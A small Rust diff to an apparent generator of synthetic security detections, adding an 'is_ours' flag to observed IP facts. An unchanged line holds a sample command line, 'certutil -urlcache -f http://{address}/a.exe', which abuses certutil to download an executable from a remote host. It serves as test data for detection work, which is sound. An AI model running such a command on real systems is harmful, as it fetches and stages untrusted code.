@@ -43,7 +43,7 @@ pub(crate) fn detection(number: u64) -> NewDetection {
         host: Some(host),
         user: chance.is_multiple_of(2).then(|| format!("HARBOUR\\user{}", chance % 30)),
         process: Some(r"C:\Windows\System32\certutil.exe".into()),
-        observables: vec![ObservedFact { kind: ObservableKind::Ipv4, value: address.clone() }],
+        observables: vec![ObservedFact { kind: ObservableKind::Ipv4, value: address.clone(), is_ours: false }],
         matched: vec![("CommandLine".into(), Some(format!("certutil -urlcache -f http://{address}/a.exe")))],
     };
     NewDetection {
